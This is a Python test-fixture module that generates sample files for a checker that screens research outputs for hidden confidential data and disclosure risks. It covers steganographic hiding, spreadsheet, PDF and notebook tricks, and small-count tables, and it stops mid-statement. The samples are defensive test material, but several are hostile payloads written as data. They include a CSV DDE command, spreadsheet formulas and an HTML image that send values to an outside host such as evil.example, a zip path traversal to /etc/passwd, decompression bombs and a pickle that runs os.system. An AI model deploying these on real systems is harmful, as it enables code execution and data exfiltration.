"""Files that must not leave: every class of hiding place and of disclosure, built by code.

Each attack is (class, file name, bytes or a function that makes the file in a folder). None carries real secrets.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import pickle
import socket
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import openpyxl
import openpyxl.comments
import outsider
import pandas as pd
import pikepdf
import pyarrow as pa
import pyarrow.feather
import pyarrow.parquet
from benign import _figure, code, frames, notebook, shown
from PIL import Image
from PIL.PngImagePlugin import PngInfo

Attack = tuple[str, str, bytes | Callable[[Path], None]]
SECRET = b"patient,age,hiv\n" + b"".join(b"%d,%d,%d\n" % (1000 + i, 20 + i % 50, i % 2) for i in range(60))
SAFE = b"sex,0,1,All\nF,120,200,320\nM,130,140,270\nAll,250,340,590\n"
RANDOM = np.random.default_rng(7)


def _png(pixels: np.ndarray | None = None, mode: str = "RGB", **options: object) -> bytes:
    if pixels is None:
        return _figure("safe", lambda axes: axes.bar([0, 1], [100, 200]), "png")
    out = io.BytesIO()
    Image.fromarray(pixels, mode).save(out, "PNG", **options)
    return out.getvalue()


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def _xlsx(change: Callable[[openpyxl.Workbook], None]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (["sex", "yes", "no"], ["F", 120, 200], ["M", 130, 140]):
        sheet.append(row)
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rezip(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    return _zip(**members)


def file_system() -> Iterator[Attack]:
    def link(folder: Path) -> None:
        (folder / "target").write_bytes(SAFE)
        (folder / "out.csv").symlink_to("target")

    def hard(folder: Path) -> None:
        (folder / "target").write_bytes(SAFE)
        os.link(folder / "target", folder / "out.csv")

    def fifo(folder: Path) -> None:
        os.mkfifo(folder / "out.csv")

    def sock(folder: Path) -> None:
        here = os.getcwd()
        os.chdir(folder)
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.bind("out.csv")
        finally:
            os.chdir(here)

    def sparse(folder: Path) -> None:
        with (folder / "out.csv").open("wb") as opened:
            opened.write(SAFE)
            opened.seek(10_000_000)
            opened.write(b"\n")

    for name, make in (("symlink", link), ("hardlink", hard), ("fifo", fifo), ("socket", sock), ("sparse", sparse)):
        yield f"file system: {name}", "out.csv", make
    for name in ("out\u200b.csv", "out\u202evsc.csv", "оut.csv", "SGVsbG8gd29ybGQgdGhpcyBpcyBhIGxlYWs.csv", "4915123456789012345678.csv", "out.csv.exe.csv",
                 "table_" + "a" * 150 + ".csv", "out .csv ", "23_45_67_89_12_34_56_78_90.csv", "deadbeefcafebabe0123456789abcdef.csv"):  # fmt: skip
        yield "file system: name", name, SAFE


def types() -> Iterator[Attack]:
    yield "type: png as csv", "out.csv", _png()
    yield "type: csv as png", "out.png", SAFE
    yield "type: zip as txt", "out.txt", _zip(a=SECRET)
    yield "type: elf", "out.txt", b"\x7fELF\x02\x01\x01" + bytes(200)
    yield "type: sqlite", "out.db", _sqlite()
    yield "type: gzip", "out.csv.gz", gzip.compress(SECRET)
    yield "type: unknown", "out.bin", RANDOM.bytes(4000)
    yield "type: png and zip", "fig.png", _png() + _zip(a=SECRET)
    yield "type: csv and zip", "out.csv", SAFE + _zip(a=SECRET)
    yield "type: pdf and zip", "fig.pdf", _figure("x", lambda axes: axes.bar([0, 1], [1, 2]), "pdf") + _zip(a=SECRET)
    yield "type: stata", "out.dta", _written(lambda out: pd.DataFrame({"a": range(50)}).to_stata(out))
    yield "type: numpy", "out.npy", _written(lambda out: np.save(out, np.arange(1000)))
    yield "type: docx", "out.docx", _zip(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
    yield "type: html as txt", "out.txt", b"<!DOCTYPE html><html><script>1</script></html>"


def _written(write: Callable[[io.BytesIO], object]) -> bytes:
    out = io.BytesIO()
    write(out)
    return out.getvalue()


def _sqlite() -> bytes:
    with sqlite3.connect(":memory:") as made:
        made.execute("create table t (a)")
        return made.serialize()


def text() -> Iterator[Attack]:
    words = b"The model was fitted on 4,820 people and results are below. "
    bits = "".join(f"{byte:08b}" for byte in SECRET[:30])
    yield (
        "text: zero width",
        "out.txt",
        ("Results" + "".join("\u200b" if b == "1" else "\u200c" for b in bits) + " are fine.\n").encode(),
    )
    yield "text: tags", "out.txt", ("Results" + "".join(chr(0xE0000 + c) for c in b"secret") + " fine\n").encode()
    yield (
        "text: variation selectors",
        "out.txt",
        ("Results" + "".join(chr(0xFE00 + c % 16) for c in SECRET[:30]) + "\n").encode(),
    )
    yield (
        "text: supplementary selectors",
        "out.txt",
        ("R" + "".join(chr(0xE0100 + c) for c in SECRET[:40]) + "\n").encode(),
    )
    yield "text: bidi", "out.txt", "access \u202e\u2066// admin\u2069 granted\n".encode()
    yield "text: homoglyphs", "out.txt", "Thе rеsults аre finе and the mоdel holds.\n".encode()
    yield "text: soft hyphens", "out.txt", "re\u00adsults a\u00adre fine\n".encode()
    yield "text: conceal", "out.txt", b"ok \x1b[8mpatient 17 is positive\x1b[0m\n"
    yield "text: backspace", "out.txt", b"secret\x08\x08\x08\x08\x08\x08fine\n"
    yield "text: overwritten line", "out.txt", b"patient 17 is positive\rall is fine here     \n"
    yield (
        "text: trailing spaces",
        "out.txt",
        b"".join(b"line %d of results" % i + (b" " if b == "1" else b"") + b"\n" for i, b in enumerate(bits)),
    )
    yield (
        "text: trailing tabs",
        "out.txt",
        b"".join(b"line %d of it" % i + (b"\t " if b == "1" else b" \t") + b"\n" for i, b in enumerate(bits[:60])),
    )
    yield (
        "text: line ends",
        "out.txt",
        b"".join(b"line %d" % i + (b"\r\n" if b == "1" else b"\n") for i, b in enumerate(bits)),
    )
    yield "text: base64", "out.txt", words + base64.b64encode(SECRET) + b"\n"
    yield "text: base64 lines", "out.txt", words + b"\n" + base64.encodebytes(zlib.compress(SECRET))
    yield "text: base64 url", "out.md", words + base64.urlsafe_b64encode(SECRET) + b"\n"
    yield "text: base32", "out.txt", words + base64.b32encode(SECRET) + b"\n"
    yield "text: hex", "out.txt", words + SECRET.hex().encode() + b"\n"
    yield "text: hex groups", "out.txt", words + SECRET.hex(" ").encode() + b"\n"
    yield "text: hex escapes", "run.py", b"x = '" + "".join(f"\\x{c:02x}" for c in SECRET).encode() + b"'\n"
    yield "text: base85", "out.txt", words + base64.b85encode(zlib.compress(SECRET)) + b"\n"
    yield "text: bits", "out.txt", words + bits.encode() + b"\n"
    yield "text: percent", "out.txt", words + "".join(f"%{c:02x}" for c in SECRET).encode() + b"\n"
    yield (
        "text: thin spaces",
        "out.txt",
        ("word" + "word".join("\u2009" if b == "1" else " " for b in bits) + "\n").encode(),
    )
    yield "text: numbers", "out.txt", b"values: " + b" ".join(b"%d" % v for v in RANDOM.integers(0, 999, 200)) + b"\n"
    yield (
        "text: list in code",
        "run.py",
        b"data = [" + b", ".join(b"%.4f" % v for v in RANDOM.normal(size=200)) + b"]\n",
    )
    yield "text: braille blanks", "out.txt", ("ok" + "\u2800" * 40 + "\n").encode()
    yield (
        "text: base64 in json",
        "out.json",
        json.dumps({"r2": 0.5, "note": base64.b64encode(SECRET).decode()}).encode(),
    )


def delimited() -> Iterator[Attack]:
    yield "csv: formula", "out.csv", b'term,coef\n"=HYPERLINK(""http://x/?""&A1)",0.5\nb,0.4\n'
    yield "csv: command", "out.csv", b"term,coef\n=cmd|' /C calc'!A0,0.5\nb,0.4\n"
    yield "csv: plus formula", "out.csv", b"term,coef\n+SUM(A1:A9),0.5\nb,0.4\n"
    yield "csv: at formula", "out.csv", b"term,coef\n@SUM(1+1),0.5\nb,0.4\n"
    yield "csv: ragged", "out.csv", SAFE + b"X,100,200,300,17,HIV,positive\n"
    yield "csv: comments", "out.csv", b"# patient 17 positive\n" + SAFE
    low = "\n".join(f"t{i},{0.5 + i / 100:.2f}{'0' * 6}{v}" for i, v in enumerate(RANDOM.integers(100, 999, 20)))
    yield "csv: low digits", "out.csv", f"term,coef\n{low}\n".encode()
    many = "\n".join(f"t{i},0.{''.join(str(d) for d in RANDOM.integers(0, 9, 30))}" for i in range(20))
    yield "csv: thirty digits", "out.csv", f"term,coef\n{many}\n".encode()
    quoted = "\n".join(
        f'"g{i}",{100 + 5 * i}' if b == "1" else f"g{i},{100 + 5 * i}" for i, b in enumerate("1011001110100110111001")
    )
    yield "csv: quoting", "out.csv", f"group,n\n{quoted}\n".encode()
    zeros = "\n".join(f"t{i},0.{i + 10}{'0' if b == '1' else ''}" for i, b in enumerate("1011001110100110111001"))
    yield "csv: needless zeros", "out.csv", f"term,coef\n{zeros}\n".encode()


def workbooks() -> Iterator[Attack]:
    def hidden(state: str) -> Callable[[openpyxl.Workbook], None]:
        def change(book: openpyxl.Workbook) -> None:
            sheet = book.create_sheet("data")
            sheet.sheet_state = state
            for i in range(30):
                sheet.append([i, 20 + i])

        return change

    yield "xlsx: hidden sheet", "out.xlsx", _xlsx(hidden("hidden"))
    yield "xlsx: very hidden sheet", "out.xlsx", _xlsx(hidden("veryHidden"))
    yield "xlsx: hidden row", "out.xlsx", _xlsx(lambda b: setattr(b.active.row_dimensions[2], "hidden", True))
    yield "xlsx: hidden column", "out.xlsx", _xlsx(lambda b: setattr(b.active.column_dimensions["B"], "hidden", True))
    yield (
        "xlsx: comment",
        "out.xlsx",
        _xlsx(lambda b: setattr(b.active["A1"], "comment", openpyxl.comments.Comment("patient 17", "x"))),
    )
    yield "xlsx: formula", "out.xlsx", _xlsx(lambda b: b.active.append(['=WEBSERVICE("http://x")', 100, 100]))
    yield "xlsx: properties", "out.xlsx", _xlsx(lambda b: setattr(b.properties, "description", SECRET.decode()))
    yield "xlsx: keywords", "out.xlsx", _xlsx(lambda b: setattr(b.properties, "keywords", "17,18,19"))
    yield "xlsx: no format", "out.xlsx", _xlsx(lambda b: setattr(b.active["B2"], "number_format", ";;;"))
    yield (
        "xlsx: white text",
        "out.xlsx",
        _xlsx(lambda b: setattr(b.active["A2"], "font", openpyxl.styles.Font(color="FFFFFFFF"))),
    )

    def validation(book: openpyxl.Workbook) -> None:
        from openpyxl.worksheet.datavalidation import DataValidation

        made = DataValidation(type="list", formula1='"17,positive"', prompt="patient 17 positive")
        book.active.add_data_validation(made)
        made.add("A1")

    yield "xlsx: validation", "out.xlsx", _xlsx(validation)
    plain = _xlsx(lambda b: None)

    def put(name: str, body: bytes) -> Callable[[dict[str, bytes]], None]:
        return lambda members: members.__setitem__(name, body)

    yield "xlsx: macros", "out.xlsx", _rezip(plain, put("xl/vbaProject.bin", SECRET))
    yield "xlsx: pivot cache", "out.xlsx", _rezip(plain, put("xl/pivotCache/pivotCacheRecords1.xml", b"<r/>"))
    yield "xlsx: external link", "out.xlsx", _rezip(plain, put("xl/externalLinks/externalLink1.xml", b"<r/>"))
    yield "xlsx: custom part", "out.xlsx", _rezip(plain, put("customXml/item1.xml", b"<r>" + SECRET + b"</r>"))
    yield "xlsx: embedded file", "out.xlsx", _rezip(plain, put("xl/embeddings/a.bin", SECRET))

    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>patient 17</t></si></sst>'
    yield "xlsx: orphan string", "out.xlsx", _rezip(plain, put("xl/sharedStrings.xml", strings))
    yield "xlsx: trailing bytes", "out.xlsx", plain + SECRET
    yield "xlsx: small count", "out.xlsx", _xlsx(lambda b: b.active.append(["X", 3, 100]))


def archives() -> Iterator[Attack]:
    yield "zip: plain", "out.zip", _zip(**{"a.csv": SECRET})
    yield "zip: bomb", "out.zip", _zip(**{"a.csv": bytes(60_000_000)})
    yield "zip: nested", "out.zip", _zip(**{"b.zip": _zip(a=SECRET)})
    yield "zip: traversal", "out.zip", _zip(**{"../../etc/passwd": b"x"})
    yield "zip: prepended", "out.zip", SECRET + _zip(a=SAFE)
    body = _xlsx(lambda b: None)
    at = body.find(b"PK\x01\x02")
    yield "zip: gap", "out.xlsx", body[:at] + SECRET * 3 + body[at:]


def notebooks() -> Iterator[Attack]:
    good = [code("1+1", shown(text__plain="2"))]

    def changed(**extra: object) -> bytes:
        return notebook([{**code("x", shown(text__plain="2")), **extra}])

    yield (
        "notebook: attachment",
        "nb.ipynb",
        notebook(
            [
                {
                    "cell_type": "markdown",
                    "source": "hi",
                    "attachments": {"a.png": {"image/png": base64.b64encode(SECRET).decode()}},
                }
            ]
        ),
    )
    yield "notebook: cell metadata", "nb.ipynb", changed(metadata={"data": SECRET.decode()})
    yield "notebook: short metadata", "nb.ipynb", changed(metadata={"x": 17})
    book = json.loads(notebook(good))
    yield (
        "notebook: metadata",
        "nb.ipynb",
        json.dumps({**book, "metadata": {**book["metadata"], "rows": [1, 2, 3]}}).encode(),
    )
    yield (
        "notebook: widgets",
        "nb.ipynb",
        json.dumps(
            {
                **book,
                "metadata": {
                    **book["metadata"],
                    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": SECRET.decode()}}},
                },
            }
        ).encode(),
    )
    yield "notebook: unknown key", "nb.ipynb", json.dumps({**book, "backup": SECRET.decode()}).encode()
    yield (
        "notebook: duplicate keys",
        "nb.ipynb",
        notebook(good).replace(b'"nbformat": 4', b'"nbformat": 4, "nbformat": 4'),
    )
    yield "notebook: javascript", "nb.ipynb", notebook([code("x", shown(application__javascript="fetch('x')"))])
    yield (
        "notebook: html script",
        "nb.ipynb",
        notebook([code("x", shown(text__html="<script>1</script>", text__plain="x"))]),
    )
    yield (
        "notebook: unknown output",
        "nb.ipynb",
        notebook([code("x", shown(application__x_data="17,18", text__plain="x"))]),
    )
    yield (
        "notebook: hidden html",
        "nb.ipynb",
        notebook([code("x", shown(text__html="<div style='display:none'>patient 17</div>", text__plain="x"))]),
    )
    yield "notebook: hidden output", "nb.ipynb", changed(metadata={"jupyter": {"outputs_hidden": True}})
    yield (
        "notebook: text behind image",
        "nb.ipynb",
        notebook(
            [
                code(
                    "x",
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"image/png": base64.b64encode(_png()).decode(), "text/plain": SECRET.decode()},
                    },
                )
            ]
        ),
    )
    yield (
        "notebook: printed rows",
        "nb.ipynb",
        notebook(
            [
                code(
                    "df.head(40)",
                    shown(
                        text__plain=frames()["gpa2"].head(40).to_string(),
                        text__html=frames()["gpa2"].head(40).to_html(),
                    ),
                )
            ]
        ),
    )
    yield (
        "notebook: printed small counts",
        "nb.ipynb",
        notebook([code("x", shown(text__plain="sex    0    1\nF      3   20\nM     30   40"))]),
    )
    yield (
        "notebook: image chunk",
        "nb.ipynb",
        notebook(
            [
                code(
                    "x",
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"image/png": base64.b64encode(_with_text()).decode()},
                    },
                )
            ]
        ),
    )


def markup() -> Iterator[Attack]:
    page = "<!DOCTYPE html><html><head>{head}</head><body><p>Result</p>{body}</body></html>"
    for title, head, body in (
        ("script", "", "<script>var d=[1,2,3]</script>"), ("handler", "", "<p onclick='x()'>a</p>"), ("data uri", "", f"<img src='data:image/png;base64,{base64.b64encode(_png()).decode()}'>"),
        ("display none", "", "<div style='display:none'>patient 17</div>"), ("style sheet", "<style>.x{display:none}</style>", "<p class='x'>patient 17</p>"), ("white text", "", "<span style='color:white'>patient 17</span>"),
        ("zero font", "", "<span style='font-size:0'>patient 17</span>"), ("comment", "", f"<!-- {SECRET.decode()} -->"), ("data attribute", "", f"<p data-x='{SECRET.hex()}'>a</p>"),
        ("external", "", "<img src='http://evil.example/?q=17'>"), ("iframe", "", "<iframe src='x'></iframe>"), ("hidden input", "", "<input type='hidden' value='17,18'>"),
        ("off the page", "", "<p style='position:absolute;left:-9999px'>patient 17</p>"), ("template", "", "<template>" + "patient 17 is positive " * 20 + "</template>"), ("hidden attribute", "", "<p hidden>patient 17</p>"),
    ):  # fmt: skip
        yield f"html: {title}", "out.html", page.format(head=head, body=body).encode()
    frame = frames()["gpa2"].head(300)
    yield "svg: scatter", "fig.svg", _figure("s", lambda axes: axes.scatter(frame["sat"], frame["colgpa"]), "svg")
    yield (
        "svg: script",
        "fig.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script><rect width='5' height='5'/></svg>",
    )
    yield (
        "svg: hidden text",
        "fig.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'><text opacity='0'>patient 17</text><rect width='5' height='5'/></svg>",
    )
    yield (
        "svg: metadata",
        "fig.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'><metadata>"
        + SECRET
        + b"</metadata><rect width='5' height='5'/></svg>",
    )
    yield (
        "svg: entity",
        "fig.svg",
        b"<!DOCTYPE svg [<!ENTITY x 'patient 17'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>",
    )
    yield (
        "svg: foreign object",
        "fig.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p>17</p></foreignObject></svg>",
    )


def _with_text() -> bytes:
    info = PngInfo()
    info.add_text("Comment", SECRET.decode())
    out = io.BytesIO()
    Image.open(io.BytesIO(_png())).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def images() -> Iterator[Attack]:
    safe = _png()
    yield "png: text chunk", "fig.png", _with_text()
    yield "png: private chunk", "fig.png", safe[:33] + _chunk(b"prVt", SECRET) + safe[33:]
    yield "png: exif", "fig.png", safe[:33] + _chunk(b"eXIf", SECRET) + safe[33:]
    yield "png: trailing", "fig.png", safe + SECRET
    yield "png: after IDAT", "fig.png", safe[:-12] + _chunk(b"IDAT", zlib.compress(SECRET)) + safe[-12:]
    pixels = np.array(Image.open(io.BytesIO(safe)).convert("RGB"))
    low = pixels.copy()
    low[..., 0] = (low[..., 0] & 0xFE) | RANDOM.integers(0, 2, low.shape[:2])
    yield "png: low bits", "fig.png", _png(low)
    part = pixels.copy()
    part[:40, :, 2] = (part[:40, :, 2] & 0xFE) | RANDOM.integers(0, 2, part[:40].shape[:2])
    yield "png: low bits of a part", "fig.png", _png(part)
    two = pixels.copy()
    two[...] = (two & 0xFC) | RANDOM.integers(0, 4, two.shape)
    yield "png: two low bits", "fig.png", _png(two)
    clear = np.dstack([RANDOM.integers(0, 256, (*pixels.shape[:2], 3)), np.zeros(pixels.shape[:2])]).astype(np.uint8)
    clear[:50, :50] = 255
    yield "png: transparent colours", "fig.png", _png(clear, "RGBA")
    palette = Image.fromarray(np.zeros((20, 20), np.uint8), "P")
    palette.putpalette(list(SECRET[:600].ljust(768, b"\0")))
    yield "png: palette", "fig.png", _written(lambda out: palette.save(out, "PNG"))
    out = io.BytesIO()
    Image.open(io.BytesIO(safe)).convert("RGB").save(out, "JPEG", comment=SECRET)
    yield "jpeg: comment", "fig.jpg", out.getvalue()
    plain = io.BytesIO()
    Image.open(io.BytesIO(safe)).convert("RGB").save(plain, "JPEG")
    yield "jpeg: trailing", "fig.jpg", plain.getvalue() + SECRET
    yield "png: truncated", "fig.png", safe[: len(safe) // 2]
    yield (
        "png: bomb",
        "fig.png",
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
        + _chunk(b"IDAT", zlib.compress(bytes(100_000)))
        + _chunk(b"IEND", b""),
    )


def _pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.open(io.BytesIO(_figure("x", lambda axes: axes.bar([0, 1], [1, 2]), "pdf"))) as made:
        change(made)
        out = io.BytesIO()
        made.save(out)
    return out.getvalue()


def pdfs() -> Iterator[Attack]:
    yield "pdf: attachment", "fig.pdf", _pdf(lambda p: p.attachments.__setitem__("a.csv", SECRET))
    yield (
        "pdf: javascript",
        "fig.pdf",
        _pdf(lambda p: setattr(p.Root, "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))),
    )
    yield (
        "pdf: layers",
        "fig.pdf",
        _pdf(
            lambda p: setattr(p.Root, "OCProperties", pikepdf.Dictionary(OCGs=pikepdf.Array(), D=pikepdf.Dictionary()))
        ),
    )
    yield "pdf: properties", "fig.pdf", _pdf(lambda p: p.docinfo.__setitem__("/Subject", SECRET.decode()))
    safe = _figure("x", lambda axes: axes.bar([0, 1], [1, 2]), "pdf")
    yield "pdf: trailing", "fig.pdf", safe + SECRET
    yield (
        "pdf: revision",
        "fig.pdf",
        safe + b"\n99 0 obj\n<< /A (patient 17) >>\nendobj\nxref\n0 0\ntrailer\n<< /Size 99 >>\nstartxref\n0\n%%EOF\n",
    )

    def append(text: bytes) -> Callable[[pikepdf.Pdf], None]:
        def change(made: pikepdf.Pdf) -> None:
            made.pages[0].contents_add(made.make_stream(text))

        return change

    yield "pdf: invisible text", "fig.pdf", _pdf(append(b"BT /F1 12 Tf 3 Tr 10 10 Td (patient 17) Tj ET"))
    yield "pdf: white text", "fig.pdf", _pdf(append(b"1 1 1 rg BT /F1 12 Tf 10 10 Td (patient 17) Tj ET"))
    yield (
        "pdf: annotation",
        "fig.pdf",
        _pdf(
            lambda p: setattr(
                p.pages[0],
                "Annots",
                pikepdf.Array(
                    [
                        pikepdf.Dictionary(
                            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Contents="patient 17", Rect=[0, 0, 1, 1]
                        )
                    ]
                ),
            )
        ),
    )
    yield (
        "pdf: form",
        "fig.pdf",
        _pdf(lambda p: setattr(p.Root, "AcroForm", pikepdf.Dictionary(Fields=pikepdf.Array()))),
    )
    frame = frames()["gpa2"].head(300)
    yield "pdf: scatter", "fig.pdf", _figure("s", lambda axes: axes.scatter(frame["sat"], frame["colgpa"]), "pdf")
    yield "pdf: private data", "fig.pdf", _pdf(lambda p: setattr(p.Root, "PieceInfo", pikepdf.Dictionary(X="17")))


def columnar() -> Iterator[Attack]:
    table = pa.table({"group": ["a", "b"], "n": [100, 200]})
    yield (
        "parquet: metadata",
        "out.parquet",
        _written(lambda out: pa.parquet.write_table(table.replace_schema_metadata({"rows": SECRET}), out)),
    )
    yield (
        "parquet: field metadata",
        "out.parquet",
        _written(
            lambda out: pa.parquet.write_table(
                pa.table(
                    [table[0], table[1]],
                    schema=pa.schema([pa.field("group", pa.string(), metadata={"x": "17"}), pa.field("n", pa.int64())]),
                ),
                out,
            )
        ),
    )
    frame = pd.DataFrame({"name": pd.Categorical(["p1", "p2", "p3"] * 40), "n": 100})
    few = frame[frame["name"] == "p1"].head(2)
    yield "parquet: categories", "out.parquet", _written(few.to_parquet)
    yield "feather: categories", "out.feather", _written(lambda out: few.reset_index(drop=True).to_feather(out))
    yield (
        "feather: metadata",
        "out.feather",
        _written(lambda out: pa.feather.write_feather(table.replace_schema_metadata({"rows": SECRET}), out)),
    )
    yield (
        "parquet: index",
        "out.parquet",
        _written(lambda out: pd.DataFrame({"mean": [1.5, 2.5, 3.5]}, index=[17, 203, 999]).to_parquet(out)),
    )
    plain = _written(lambda out: pa.parquet.write_table(table, out))
    yield "parquet: gap", "out.parquet", plain[:4] + SECRET * 10 + plain[4:]
    yield (
        "parquet: rows",
        "out.parquet",
        _written(lambda out: frames()["twoyear"].head(500).to_parquet(out, index=False)),
    )
    yield "parquet: attributes", "out.parquet", _written(lambda out: _attributed().to_parquet(out))


def _attributed() -> pd.DataFrame:
    made = pd.DataFrame({"mean": [1.5, 2.5]})
    made.attrs["rows"] = "patient 17 positive"
    return made


class _Evil:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("true",)


def saved_models() -> Iterator[Attack]:
    yield "model: pickle", "model.pkl", pickle.dumps({"coef": [1, 2]})
    yield "model: frame", "frame.pkl", pickle.dumps(frames()["gpa2"].head(50))
    yield "model: old protocol", "frame.pkl", pickle.dumps({"a": [1.5] * 20}, protocol=0)
    yield "model: code", "model.pkl", pickle.dumps(_Evil())
    yield "model: renamed", "model.txt", pickle.dumps({"coef": [1, 2]}, protocol=4)
    yield "model: joblib", "model.joblib", zlib.compress(pickle.dumps({"a": np.arange(100)}))
    yield "model: onnx", "model.onnx", b"\x08\x07\x12\x07pytorch" + RANDOM.bytes(300)
    yield (
        "model: torch",
        "model.pt",
        _zip(**{"archive/data.pkl": pickle.dumps({"a": 1}, protocol=2), "archive/version": b"3"}),
    )


def disclosure() -> Iterator[Attack]:
    def table(title: str, body: str, name: str = "out.csv") -> Attack:
        return f"disclosure: {title}", name, body.encode()

    yield table("small cell", "sex,0,1,All\nF,3,20,25\nM,30,40,70\nAll,35,60,95\n")
    yield table("small count column", "region,n\nNorth,120\nSouth,4\n")
    yield table("small count in words", "group,count,mean\na,120,3.4\nb,2,3.1\n")
    yield table("zero cell", "sex,0,1,All\nF,0,20,20\nM,30,40,70\nAll,30,60,90\n")
    yield table("all of them", "sex,events,total\nF,120,120\nM,30,70\n")
    yield table("small complement", "sex,cases,total\nF,116,120\nM,30,70\n")
    yield table("unrounded", "sex,0,1,All\nF,123,217,340\nM,131,149,280\nAll,254,366,620\n")
    yield table("unrounded column", "region,n\nNorth,123\nSouth,457\n")
    yield table("small percentage", "group,n,percent\na,120,2.5\nb,200,40\n")
    yield table("hundred percent", "group,n,percent\na,120,100\nb,200,40\n")
    yield table("zero percent", "group,n,percent\na,120,0\nb,200,40\n")
    yield table("recoverable", "sex,0,1,All\nF,*,120,127\nM,130,141,271\nAll,137,261,398\n")
    yield table("recoverable blank", "sex,0,1,2,All\nF,,120,100,227\nM,130,140,100,370\nAll,137,260,200,597\n")
    yield table("recoverable less than", "sex,0,1,All\nF,<10,120,127\nM,130,141,271\nAll,137,261,398\n")
    yield table("extremes", "group,mean,min,max\na,3.4,1.2,99.7\nb,3.1,0.4,87.1\n")
    yield table("describe", frames()["gpa2"][["sat", "colgpa"]].describe().to_csv())
    yield table("freedom", "OLS\nNo. Observations:   14\nDf Residuals:       4\nR-squared: 0.98\n", "fit.txt")
    yield table("freedom in R", "Residual standard error: 0.3 on 5 degrees of freedom\n", "fit.txt")
    yield table("freedom in JSON", json.dumps({"r2": 0.9, "df_resid": 3, "nobs": 15}), "fit.json")
    yield table(
        "saturated",
        "Dep. Variable: y\nR-squared:                       1.000\nNo. Observations: 200\nDf Residuals: 190\n",
        "fit.txt",
    )
    yield table("few observations", "No. Observations:    6\nR-squared: 0.6\n", "fit.txt")
    yield table("dominance", "region,total_turnover,largest\nNorth,1000,970\nSouth,2000,300\n")
    yield table("dominant share", "region,sum,top2_share\nNorth,1000,0.96\nSouth,2000,0.4\n")
    yield table("few at risk", "time,at_risk,events,survival\n0,100,0,1.0\n10,40,60,0.4\n20,4,36,0.04\n")
    yield table("survival steps", "time,n_at_risk,survival\n0,100,1.0\n10,100,0.97\n20,95,0.95\n30,90,0.94\n")
    yield table("percentiles of few", "group,n,p5,p95\na,40,1.5,9.7\nb,200,1.1,9.1\n")
    yield table("small cell in text", "          no   yes\nfemale   120     3\nmale     130    44\n", "out.txt")
    yield table("small cell in Markdown", "| sex | n |\n|---|---|\n| F | 120 |\n| M | 4 |\n", "out.md")
    yield table("small cell in LaTeX", "sex & 0 & 1 \\\\\nF & 120 & 3 \\\\\nM & 130 & 45 \\\\\n", "out.tex")
    yield table("small cell in JSON", json.dumps([{"sex": "F", "count": 120}, {"sex": "M", "count": 3}]), "out.json")
    yield table(
        "small cell in HTML",
        "<html><body><table><tr><th>sex</th><th>n</th></tr><tr><td>F</td><td>120</td></tr><tr><td>M</td><td>3</td></tr></table></body></html>",
        "out.html",
    )
    yield (
        "disclosure: small cell in Parquet",
        "out.parquet",
        _written(lambda out: pa.parquet.write_table(pa.table({"sex": ["F", "M"], "count": [120, 3]}), out)),
    )
    for data in ("gpa2", "wagepan", "nhefs", "fair", "randhie"):
        yield (
            f"disclosure: records of {data}",
            "out.csv",
            frames()[data].sample(120, random_state=1).to_csv(index=False).encode(),
        )
        shifted = frames()[data].select_dtypes("number").sample(150, random_state=2) * 1.37 + 11
        yield f"disclosure: shifted records of {data}", "out.csv", shifted.round(3).to_csv(index=False).encode()
    yield "disclosure: many rows", "out.csv", frames()["twoyear"].to_csv(index=False).encode()
    yield (
        "disclosure: ACRO fails",
        "results.json",
        json.dumps(
            {
                "version": "1.0.2",
                "results": {
                    "output_0": {
                        "status": "fail",
                        "summary": "fail; threshold: 3 cells may need suppressing",
                        "files": [],
                    }
                },
            }
        ).encode(),
    )


def identifiers() -> Iterator[Attack]:
    for title, body in (
        ("NHS number", "The patient's NHS number is 943 476 5919.\n"), ("e-mail", "Contact: jane.doe@hospital.nhs.uk\n"), ("IBAN", "Paid to DE89 3704 0044 0532 0130 00.\n"),
        ("credit card", "Card 4111 1111 1111 1111 was used... and 5500 0055 5555 5559\n"), ("social security", "SSN 219-09-9998\n"), ("national insurance", "NINO: AB 12 34 56 C\n"),
        ("telephone", "Call +44 20 7946 0958 about participant 12.\n"), ("Danish number", "CPR 211062-5629 is included\n"), ("Finnish code", "HETU 131052-308T is included\n"), ("Italian code", "Codice RCCMNL83S18D969H\n"),
    ):  # fmt: skip
        yield f"identifier: {title}", "out.txt", body.encode()
    yield (
        "identifier: names and dates",
        "out.csv",
        b"name,birth_date,mean\n"
        + b"".join(
            b"%s Smith,19%02d-03-1%d,4.5\n" % (n, 40 + i, i)
            for i, n in enumerate((b"Anna", b"Bert", b"Carla", b"Dora", b"Emil", b"Fritz"))
        ),
    )
    yield (
        "identifier: id column",
        "out.csv",
